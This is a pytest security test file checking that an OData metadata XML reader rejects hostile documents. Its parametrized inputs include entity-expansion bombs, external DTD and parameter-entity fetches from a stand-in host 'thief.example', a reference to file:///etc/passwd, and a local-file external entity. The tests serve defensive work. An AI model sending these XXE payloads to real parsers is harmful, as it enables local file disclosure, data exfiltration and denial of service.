"""Metadata of a hostile service: nothing is expanded, fetched or nested without end."""

from pathlib import Path

import pytest

from interlace.odata.metadata_reader import parse_metadata
from interlace.odata.protocol_error import AnswerSyntaxError

EDMX = '<edmx:Edmx Version="4.0" xmlns:edmx="http://docs.oasis-open.org/odata/ns/edmx">{}</edmx:Edmx>'


@pytest.mark.parametrize(
    "document",
    [
        "<!DOCTYPE edmx>" + EDMX.format(""),
        '<!DOCTYPE edmx [<!ENTITY a "b">]>' + EDMX.format("&a;"),
        '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
        + EDMX.format("&c;"),
        '<!DOCTYPE x SYSTEM "http://thief.example/x.dtd">' + EDMX.format(""),
        '<!DOCTYPE x PUBLIC "a" "file:///etc/passwd">' + EDMX.format(""),
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://thief.example/p"> %p;]>' + EDMX.format(""),
        EDMX.format("&undeclared;"),
    ],
)
def test_security_o6_document_types_and_entities_are_refused(document: str) -> None:
    """The reader never looks at what they name."""
    with pytest.raises(AnswerSyntaxError):
        parse_metadata(document.encode())


def test_security_o6_an_external_entity_is_not_read(tmp_path: Path) -> None:
    """A file of this machine doesn't come into an error either."""
    file = tmp_path / "secret.txt"
    file.write_text("words-of-a-secret", encoding="utf-8")
    document = f'<!DOCTYPE x [<!ENTITY a SYSTEM "{file.as_uri()}">]>' + EDMX.format("&a;")
    with pytest.raises(AnswerSyntaxError) as caught:
        parse_metadata(document.encode())
    assert "words-of-a-secret" not in str(caught.value)


@pytest.mark.parametrize("depth", [65, 100_000])
def test_security_o6_deep_nesting_is_refused(depth: int) -> None:
    """No metadata is nested like that."""
    with pytest.raises(AnswerSyntaxError, match="nested deeper"):
        parse_metadata(EDMX.format("<a>" * depth + "</a>" * depth).encode())


def test_security_o6_an_endless_document_is_refused() -> None:
    """More than any service has tables for."""
    with pytest.raises(AnswerSyntaxError, match="longer than"):
        parse_metadata(EDMX.format(" " * 20_000_000).encode())
